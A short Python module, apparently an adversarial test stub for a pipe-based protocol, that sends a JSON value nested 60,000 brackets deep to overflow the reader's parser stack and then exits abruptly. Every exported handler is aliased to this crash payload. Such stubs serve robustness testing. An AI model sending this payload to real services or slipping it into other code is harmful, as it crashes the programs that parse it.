"""A value that overflows the stack of whoever reads it."""

import os

from reply.pipe import NoNumber, nonce, raw

__all__ = ["NoNumber"]


def number(text):
    raw(f'{{"kind": "value", "call": "{nonce()}", "value": {"[" * 60_000}{"]" * 60_000}}}')
    os._exit(0)


ask = vote = aloud = patient = number
